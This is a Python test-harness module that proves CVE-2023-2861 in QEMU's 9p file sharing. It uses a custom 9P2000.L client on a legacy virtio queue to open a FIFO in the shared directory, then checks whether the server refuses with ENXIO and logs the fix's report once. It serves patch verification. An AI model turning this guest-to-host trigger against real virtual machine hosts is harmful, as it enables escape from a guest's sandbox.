"""CVE-2023-2861: a 9p client could open special files of the shared directory.

The Linux client never asks the server to open one, so the proof is a client of its own, on a
legacy virtio queue.
"""
import os
import struct

from harness.vm import SCRATCH

from .base import NEW, OLD, Proof, ProofError

SLOT = 0x13
GUEST_FEATURES, QUEUE_PAGE, QUEUE_SIZE, QUEUE_SELECT, QUEUE_NOTIFY, STATUS = 0x04, 0x08, 0x0C, 0x0E, 0x10, 0x12
DRIVER_READY = 1 | 2 | 4
DESCRIPTOR_NEXT, DESCRIPTOR_WRITE = 1, 2
PAGE = 4096

QUEUE, REQUEST, REPLY = SCRATCH, SCRATCH + 0x10000, SCRATCH + 0x20000
MESSAGE_SIZE = 8192

LOPEN, LCREATE, SYMLINK, SETATTR, VERSION, ATTACH, WALK, CLUNK = 12, 14, 16, 26, 100, 104, 110, 120
LERROR = 7
SETATTR_MODE = 1
ROOT, FID = 0, 1


def string(text):
    return struct.pack("<H", len(text)) + text.encode()


class Client:
    """A 9P2000.L client, one request at a time."""

    def __init__(self, vm):
        self.qtest = vm.qtest
        self.port = vm.qtest.pci(SLOT).bar(0)
        self.sent = 0
        self.qtest.out("b", self.port + STATUS, 0)
        self.qtest.out("l", self.port + GUEST_FEATURES, 0)
        self.qtest.out("w", self.port + QUEUE_SELECT, 0)
        self.size = self.qtest.in_("w", self.port + QUEUE_SIZE)
        self.available = QUEUE + 16 * self.size
        self.used = QUEUE + -(-(18 * self.size + 6) // PAGE) * PAGE
        self.qtest.write(QUEUE, bytes(self.used - QUEUE + PAGE))
        self.qtest.out("l", self.port + QUEUE_PAGE, QUEUE // PAGE)
        self.qtest.out("b", self.port + STATUS, DRIVER_READY)
        self.call(VERSION, struct.pack("<I", MESSAGE_SIZE) + string("9P2000.L"))
        self.call(ATTACH, struct.pack("<II", ROOT, 0xFFFFFFFF) + string("root") + string("") + struct.pack("<I", 0))

    def call(self, kind, body):
        """Send one request; gives 0, or the error number that the server answered."""
        message = struct.pack("<IBH", 7 + len(body), kind, 1) + body
        self.qtest.write(REQUEST, message)
        self.qtest.write(QUEUE, struct.pack("<QIHHQIHH", REQUEST, len(message), DESCRIPTOR_NEXT, 1,
                                            REPLY, MESSAGE_SIZE, DESCRIPTOR_WRITE, 0))
        self.qtest.store("w", self.available + 4 + 2 * (self.sent % self.size), 0)
        self.sent += 1
        self.qtest.store("w", self.available + 2, self.sent & 0xFFFF)
        self.qtest.out("w", self.port + QUEUE_NOTIFY, 0)
        for _ in range(20000):
            if self.qtest.load("w", self.used + 2) == self.sent & 0xFFFF:
                break
        else:
            raise ProofError(f"the 9p server does not answer request {kind}")
        _, answer, _ = struct.unpack("<IBH", self.qtest.read(REPLY, 7))
        if answer == LERROR:
            return struct.unpack("<I", self.qtest.read(REPLY + 7, 4))[0]
        if answer != kind + 1:
            raise ProofError(f"the 9p server answers request {kind} with {answer}")
        return 0

    def must(self, kind, body):
        error = self.call(kind, body)
        if error:
            raise ProofError(f"9p request {kind}: {os.strerror(error)}")

    def walk(self, *names):
        self.must(WALK, struct.pack("<IIH", ROOT, FID, len(names)) + b"".join(map(string, names)))

    def clunk(self):
        self.must(CLUNK, struct.pack("<I", FID))


class Plan9(Proof):
    shows = "opening a FIFO of the share over 9p fails with ENXIO, before: succeeds"
    function = "local_open_nofollow"

    def arguments(self, directory, guests):
        share = directory / "share"
        share.mkdir()
        os.mkfifo(share / "fifo")
        return ["-fsdev", f"local,id=fs0,path={share},security_model=mapped-file",
                "-device", f"virtio-9p-pci,disable-modern=on,disable-legacy=off,fsdev=fs0,mount_tag=t,addr={SLOT:#x}"]

    def prepare(self, vm):
        self.client = Client(vm)
        self.round = 0

    def _ordinary_work(self):
        """Create, chmod, open and link regular files: most of the functions that the fix is inlined into."""
        name = f"file{self.round}"
        self.round += 1
        client = self.client
        client.walk()
        client.must(LCREATE, struct.pack("<I", FID) + string(name) + struct.pack("<III", os.O_RDWR, 0o640, 0))
        client.clunk()
        client.walk(name)
        client.must(SETATTR, struct.pack("<IIIIIQQQQQ", FID, SETATTR_MODE, 0o600, 0, 0, 0, 0, 0, 0, 0))
        client.must(LOPEN, struct.pack("<II", FID, os.O_RDWR))
        client.clunk()
        client.must(SYMLINK, struct.pack("<I", ROOT) + string(name + ".link") + string(name) + struct.pack("<I", 0))

    def observe(self, vm):
        self._ordinary_work()
        self.client.walk("fifo")
        error = self.client.call(LOPEN, struct.pack("<II", FID, os.O_RDONLY))
        self.client.clunk()
        if error == 0:
            return OLD
        if error == 6: # ENXIO
            return NEW
        raise ProofError(f"opening a FIFO: {os.strerror(error)}")

    def attack(self, vm):
        """The fix reports once: its flag is a variable that only the patch has."""
        self.observe(vm)
        reports = vm.log.read_text().count("broken or compromised client")
        if reports != 1:
            raise ProofError(f"the special file was reported {reports} times, not once")
        return "two attempts, reported once (the patch's own variable)"
